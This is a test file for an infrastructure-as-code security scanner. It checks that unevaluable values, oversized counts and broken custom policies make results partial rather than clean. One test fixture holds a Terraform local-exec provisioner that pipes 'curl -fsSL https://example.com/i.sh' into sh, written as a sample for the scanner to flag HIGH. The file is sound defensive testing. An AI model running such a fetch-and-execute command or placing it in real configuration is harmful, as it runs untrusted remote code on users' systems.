/**
 * Never fail open: what could not be checked makes the result partial in every format and fails check/scan unless
 * --allow-partial; code that would run commands is never clean; one bad user policy is an error finding, not the end
 * of the scan. The repros of the issue that found each gap.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { iacpac, plainEnv } from '../helpers/cli.ts';

const work = mkdtempSync(join(tmpdir(), 'iacpac-fail-open-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));

let counter = 0;
function dir(files: Record<string, string>): string {
  const path = join(work, `case-${counter++}`);
  for (const [name, content] of Object.entries(files)) {
    mkdirSync(join(path, name, '..'), { recursive: true });
    writeFileSync(join(path, name), content);
  }
  return path;
}

const bucket = 'resource "aws_s3_bucket" "b" {\n  bucket = "x"\n}\n';
const acl = (value: string, extra = ''): string => `resource "aws_s3_bucket_acl" "a" {\n${extra}  bucket = aws_s3_bucket.b.id\n  acl    = ${value}\n}\n`;

interface Result {
  partial: boolean;
  errors: Array<{ message: string }>;
  findings: Array<{ policy_id: string; severity: string; resource: string; message: string }>;
}

async function check(args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return iacpac(['check', ...args], { env: plainEnv(), timeoutMs: 240_000 });
}

describe('never fail open', { timeout: 300_000 }, () => {
  it('a value that could not be evaluated (file() outside the module) makes check fail unless --allow-partial', async () => {
    // Inline, acl = "public-read-write" gives 2 HIGH; read through a refused file() it gave "no findings" and exit 0.
    const root = dir({ 'shared/acl.txt': 'public-read-write\n', 'root/main.tf': bucket + acl('trimspace(file("${path.module}/../shared/acl.txt"))') });
    const path = join(root, 'root');
    const text = await check(['--severity', 'high', path]);
    expect(text.code).toBe(1);
    expect(text.stdout).toContain('[partial: not everything could be checked]');
    expect(text.stdout).toContain('is outside the configuration directory');
    expect(text.stderr).toContain('1 of 1 input could not be checked completely (see the report); findings may be missing: fix what it names, or pass --allow-partial to accept partial results');

    const json = await check(['--severity', 'high', '--format', 'json', path]);
    expect(json.code).toBe(1);
    const result = (JSON.parse(json.stdout) as { results: Result[] }).results[0]!;
    expect(result.partial).toBe(true);
    expect(result.errors[0]?.message).toMatch(/^Error: Invalid function argument \(main\.tf:6:30\)/);

    const sarif = await check(['--severity', 'high', '-o', 'sarif', path]);
    const invocation = (JSON.parse(sarif.stdout) as { runs: Array<{ invocations: Array<{ executionSuccessful: boolean; toolExecutionNotifications: unknown[] }> }> }).runs[0]!.invocations[0]!;
    expect([invocation.executionSuccessful, invocation.toolExecutionNotifications.length]).toEqual([false, 1]);

    const accepted = await check(['--severity', 'high', '--allow-partial', path]);
    expect([accepted.code, accepted.stderr]).toEqual([0, '']);
    expect(accepted.stdout).toContain('[partial: not everything could be checked]');
  });

  it('a count over the instance cap is reported and the resource is still scanned', async () => {
    const path = dir({ 'main.tf': bucket + acl('"public-read-write"', '  count  = 10001\n') });
    const json = await check(['--severity', 'high', '--format', 'json', path]);
    expect(json.code).toBe(1);
    const result = (JSON.parse(json.stdout) as { results: Result[] }).results[0]!;
    expect(result.partial).toBe(true);
    expect(result.errors.map((e) => e.message)).toContainEqual(expect.stringContaining('The given "count" argument value is 10001'));
    expect(result.findings.filter((f) => f.severity === 'high').map((f) => f.policy_id).sort()).toEqual(['IACPAC_AWS_S3_016', 'IACPAC_AWS_S3_017']);
  });

  it('code that would run commands is never clean: local-exec, remote-exec and external are HIGH', async () => {
    const path = dir({
      'main.tf': 'module "tools" {\n  source = "./tools"\n}\nresource "terraform_data" "install" {\n  provisioner "local-exec" {\n    command = "curl -fsSL https://example.com/i.sh | sh"\n  }\n}\n',
      'tools/main.tf': 'data "external" "whoami" {\n  program = ["sh", "-c", "id"]\n}\n',
    });
    const json = await check(['--severity', 'high', '--format', 'json', path]);
    expect(json.code).toBe(1);
    const findings = (JSON.parse(json.stdout) as { results: Result[] }).results[0]!.findings;
    expect(findings.map((f) => [f.policy_id, f.severity, f.resource])).toEqual([
      ['IACPAC_TF_EXEC_001', 'high', 'terraform_data.install'],
      ['IACPAC_TF_EXEC_001', 'high', 'module.tools.data.external.whoami'],
    ]);
  });

  it('one bad user policy is an error finding; the scan goes on with the others (a 2,000-term expression killed it)', async () => {
    const policy = (id: string, body: string) => `# METADATA\n# title: ${id}\n# custom:\n#   id: ${id}\n#   severity: medium\npackage acme.${id.toLowerCase()}\n\nimport rego.v1\n\n${body}\n`;
    const policies = dir({
      'deep.rego': policy('ACME_DEEP', `r := ${Array.from({ length: 2000 }, () => '1').join(' + ')}\n\ndeny contains finding if {\n\tr > 1\n\tfinding := {"address": "x", "message": "deep"}\n}`),
      'good.rego': policy('ACME_GOOD', 'deny contains finding if {\n\tsome rc in input.resource_changes\n\trc.type == "aws_s3_bucket"\n\tfinding := {"address": rc.address, "message": "seen"}\n}'),
      // A module that redefines a library rule: the conflict is reported in the library's file, the module is the culprit.
      'conflict.rego': 'package iacpac.lib.terraform\n\nimport rego.v1\n\nresources := 5\n',
    });
    const path = dir({ 'main.tf': bucket });
    const run = await iacpac(['scan', path, '--policy-dir', policies, '--format', 'json'], { env: plainEnv() });
    expect(run.code, run.stderr).toBe(1);
    const result = (JSON.parse(run.stdout) as { results: Result[] }).results[0]!;
    expect(result.findings.filter((f) => f.policy_id.startsWith('ACME')).map((f) => [f.policy_id, f.severity, f.message.split(':')[0]])).toEqual([
      ['ACME_DEEP', 'error', 'policy failed to compile'],
      ['ACME_GOOD', 'medium', 'seen'],
    ]);
    expect(result.findings.some((f) => f.policy_id === 'IACPAC_AWS_S3_001')).toBe(true);
    expect(result.errors.map((e) => e.message)).toEqual([expect.stringMatching(/conflict\.rego: .*conflicting rules data\.iacpac\.lib\.terraform\.resources.* \(this module was left out of the scan\)$/)]);
    expect(result.partial).toBe(true);
  });
});
